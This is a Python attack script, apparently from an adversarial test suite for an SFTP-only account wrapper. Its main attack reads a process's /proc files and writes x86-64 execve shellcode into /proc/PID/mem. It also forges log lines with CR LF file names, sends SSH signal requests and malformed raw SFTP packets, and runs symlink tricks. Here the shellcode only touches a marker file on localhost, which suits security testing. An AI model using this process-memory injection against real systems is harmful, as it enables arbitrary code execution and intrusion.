#!/usr/bin/python3
"""The /proc attack a partner can make with nothing but SFTP (paramiko), for the adversarial suite.

    sftp_proc_attack.py PORT USER KEYFILE MARKER wrapper
        Reads /proc/self/stat to find sftp-server's parent (the wrapper), reads its environ and
        syscall, and writes x86-64 code into its memory at the address where it will resume: when
        the session ends, the wrapper would run `touch MARKER`.
    sftp_proc_attack.py PORT USER KEYFILE MARKER pid PID
        The same against process PID (a hook of the partner's other session).
    sftp_proc_attack.py PORT USER KEYFILE - open NAME_HEX
        Opens the file named by the hex bytes NAME_HEX for reading (a name that may hold CR LF
        and forged log lines; sftp-server logs the open even when it fails).
    sftp_proc_attack.py PORT USER KEYFILE - put NAME_HEX...
        Uploads five bytes to each name (hex-encoded bytes, relative to the home directory),
        making the directories above it first.
    sftp_proc_attack.py PORT USER KEYFILE - signal COMMAND SIGNAL
        Runs COMMAND (the allowed one) as an exec request, not the subsystem, and sends an SSH
        `signal` request with SIGNAL (KILL, USR1, ...) to it, which sshd allows for exec sessions.

    sftp_proc_attack.py PORT USER KEYFILE - sweep
        Reads hex-encoded commands from standard input, one per line, and sends each as an exec
        request on a channel of its own over one connection; prints one JSON object per command:
        {"command": HEX, "exit": STATUS or null, "stdout": BYTES RECEIVED}.

Prints one JSON object per step: {"step": ..., "ok": true|false, "detail": ...}. The attack worked
if MARKER exists afterwards.
"""
import json
import struct
import sys
import time

import paramiko


def shellcode(command: bytes) -> bytes:
    # lea rdi,[rip+sh]; lea rcx,[rip+dash_c]; lea rdx,[rip+cmd]; xor eax,eax; push rax; push rdx;
    # push rcx; push rdi; mov rsi,rsp; xor edx,edx; mov eax,59 (execve); syscall
    code = (
        b"\x48\x8d\x3d" + struct.pack("<i", 39 - 7)
        + b"\x48\x8d\x0d" + struct.pack("<i", 47 - 14)
        + b"\x48\x8d\x15" + struct.pack("<i", 50 - 21)
        + b"\x31\xc0\x50\x52\x51\x57\x48\x89\xe6\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"
    )
    assert len(code) == 39
    return code + b"/bin/sh\x00" + b"-c\x00" + command + b"\x00"


def step(name, fn):
    try:
        detail = fn()
        print(json.dumps({"step": name, "ok": True, "detail": str(detail)[:300]}), flush=True)
        return detail
    except Exception as e:  # every failure is an answer here
        print(json.dumps({"step": name, "ok": False, "detail": repr(e)[:300]}), flush=True)
        return None


def read(sftp, path):
    with sftp.open(path, "rb") as f:
        return f.read(65536)


def attack_pid(sftp, pid, marker):
    step(f"read /proc/{pid}/environ", lambda: len(read(sftp, f"/proc/{pid}/environ")))
    syscall = step(f"read /proc/{pid}/syscall", lambda: read(sftp, f"/proc/{pid}/syscall").decode())
    pc = None
    if syscall:
        fields = syscall.split()
        if len(fields) >= 9:
            pc = int(fields[-1], 16)
    def write_mem():
        if pc is None:
            raise RuntimeError("no resume address")
        with sftp.open(f"/proc/{pid}/mem", "r+b") as f:
            f.seek(pc)
            f.write(shellcode(b"touch " + marker.encode()))
        return hex(pc)
    step(f"write /proc/{pid}/mem", write_mem)


def sweep(transport):
    for line in sys.stdin:
        command = bytes.fromhex(line.strip())
        chan = transport.open_session(timeout=20)
        chan.settimeout(20)
        chan.exec_command(command)
        received = 0
        try:
            while True:
                data = chan.recv(65536)
                if not data:
                    break
                received += len(data)
            status = chan.exit_status if chan.status_event.wait(20) else None
        except Exception:  # a hang counts against the shell; say so and go on
            status = None
        chan.close()
        print(json.dumps({"command": command.hex(), "exit": status, "stdout": received}),
              flush=True)


def main():
    port, user, keyfile, marker, mode = sys.argv[1:6]
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect("127.0.0.1", port=int(port), username=user, key_filename=keyfile,
                   look_for_keys=False, allow_agent=False, timeout=20)
    if mode == "sweep":
        sweep(client.get_transport())
        client.close()
        return
    if mode == "signal":
        command, signal = sys.argv[6], sys.argv[7]
        chan = client.get_transport().open_session()
        chan.exec_command(command)
        time.sleep(1.5)
        def send_signal():
            m = paramiko.Message()
            m.add_byte(paramiko.common.cMSG_CHANNEL_REQUEST)
            m.add_int(chan.remote_chanid)
            m.add_string("signal")
            m.add_boolean(False)
            m.add_string(signal)
            chan.transport._send_user_message(m)
        step("send signal " + signal, send_signal)
        time.sleep(1.5)
        chan.close()
        client.close()
        return
    if mode == "raw":
        # Requests written ahead of their answers, as raw SFTP packets: handles guessed before
        # sftp-server gave them, then (with "malformed") a request whose fields run past its
        # length, which sftp-server reads into the bytes after it and then exits on.
        name = bytes.fromhex(sys.argv[6])
        chan = client.get_transport().open_session()
        chan.invoke_subsystem("sftp")
        def packet(kind, body):
            return struct.pack(">IB", len(body) + 1, kind) + body
        def packets_in(data):
            count, i = 0, 0
            while len(data) - i >= 4:
                length = struct.unpack(">I", data[i:i + 4])[0]
                if len(data) - i - 4 < length:
                    break
                i += 4 + length
                count += 1
            return count
        def string(b):
            return struct.pack(">I", len(b)) + b
        handle = b"\0\0\0\0"
        data = b"w" * 1000
        chan.sendall(packet(1, struct.pack(">I", 3))
                     + packet(3, struct.pack(">I", 1) + string(name) + struct.pack(">II", 0x1a, 0))
                     + packet(6, struct.pack(">I", 2) + string(handle) + struct.pack(">Q", 0) + string(data))
                     + packet(4, struct.pack(">I", 3) + string(handle)))
        got = b""
        if len(sys.argv) > 7 and sys.argv[7] == "malformed":
            # Only once the four requests are answered: sftp-server exits on the malformed one
            # without sending the answers it still holds, so a close written in the same breath
            # could lose its answer (and the tap, the close's bytes) by timing alone.
            deadline = time.time() + 10
            while packets_in(got) < 4 and time.time() < deadline:
                if chan.recv_ready():
                    got += chan.recv(65536)
                else:
                    time.sleep(0.02)
            tail = name + b".second"
            chan.sendall(struct.pack(">IB", 9, 3) + struct.pack(">I", 4) + struct.pack(">I", len(tail))
                         + tail + struct.pack(">II", 0x1a, 0))
        time.sleep(1.5)
        while chan.recv_ready():
            got += chan.recv(65536)
        print(json.dumps({"step": "answers", "ok": len(got) > 0, "detail": len(got)}), flush=True)
        chan.close()
        client.close()
        return
    sftp = client.open_sftp()
    if mode not in ("open", "put", "ops"):
        step("list /proc", lambda: len(sftp.listdir("/proc")))
    if mode == "put":
        for name_hex in sys.argv[6:]:
            # Bytes, not str: paramiko sends them as they are, so names need not be UTF-8.
            name = bytes.fromhex(name_hex)
            parts = name.split(b"/")
            for i in range(1, len(parts)):
                try:
                    sftp.mkdir(b"/".join(parts[:i]))
                except IOError:
                    pass
            def put(name=name):
                with sftp.open(name, "wb") as f:
                    f.write(b"12345")
            step("put " + name_hex[:16], put)
    elif mode == "ops":
        # A list of [operation, hex name, ...]: each one a step.
        for op in json.loads(sys.argv[6]):
            kind, args = op[0], [bytes.fromhex(a) if isinstance(a, str) else a for a in op[1:]]
            def run(kind=kind, args=args):
                if kind == "put":
                    with sftp.open(args[0], "wb") as f:
                        for i in range(0, args[1], 32768):
                            f.write(b"u" * min(32768, args[1] - i))
                elif kind == "get":
                    with sftp.open(args[0], "rb") as f:
                        return len(f.read())
                elif kind == "get_rw":
                    # Opened READ|WRITE, only read.
                    with sftp.open(args[0], "r+") as f:
                        return len(f.read())
                elif kind in ("get_stat_missing", "put_stat_missing"):
                    # A failed request that sftp-server does not log at INFO (only its status)
                    # between the open and the transfer.
                    with sftp.open(args[0], "rb" if kind == "get_stat_missing" else "wb") as f:
                        try:
                            sftp.stat(args[1])
                        except IOError:
                            pass
                        if kind == "get_stat_missing":
                            return len(f.read())
                        for i in range(0, args[2], 32768):
                            f.write(b"u" * min(32768, args[2] - i))
                elif kind == "symlink_then_fail":
                    # A symlink, then a request whose failure sftp-server answers with the
                    # status a taken name gets (`Failure`) and does not log at INFO: an fstat
                    # of a handle that does not exist.
                    sftp.symlink(args[0], args[1])
                    try:
                        sftp._request(paramiko.sftp.CMD_FSTAT, b"\0\0\0\x63")
                    except IOError:
                        pass
                elif kind == "symlink":
                    sftp.symlink(args[0], args[1])
                elif kind == "hardlink":
                    sftp._request(
                        paramiko.sftp.CMD_EXTENDED, "hardlink@openssh.com", args[0], args[1]
                    )
                elif kind == "put_hold":
                    # Writes, then holds the file open (sftp-server is killed meanwhile).
                    f = sftp.open(args[0], "wb")
                    f.write(b"h" * args[1])
                    f.flush()
                    time.sleep(args[2])
                elif kind == "mkdir":
                    sftp.mkdir(args[0])
                elif kind == "rmdir":
                    sftp.rmdir(args[0])
                elif kind == "remove":
                    sftp.remove(args[0])
                elif kind == "rename":
                    sftp.rename(args[0], args[1])
                elif kind == "posix_rename":
                    sftp.posix_rename(args[0], args[1])
            step(kind + " " + op[1][-16:], run)
    elif mode == "open":
        name = bytes.fromhex(sys.argv[6])
        step("open the name", lambda: sftp.open(name.decode("utf-8", "surrogateescape"), "rb").close())
    elif mode == "wrapper":
        stat = step("read /proc/self/stat", lambda: read(sftp, "/proc/self/stat").decode())
        if stat:
            ppid = int(stat.rsplit(")", 1)[1].split()[1])
            attack_pid(sftp, ppid, marker)
        else:
            print(json.dumps({"step": "find the wrapper", "ok": False, "detail": "no /proc/self"}))
    else:
        attack_pid(sftp, int(sys.argv[6]), marker)
    sftp.close()
    client.close()


if __name__ == "__main__":
    main()
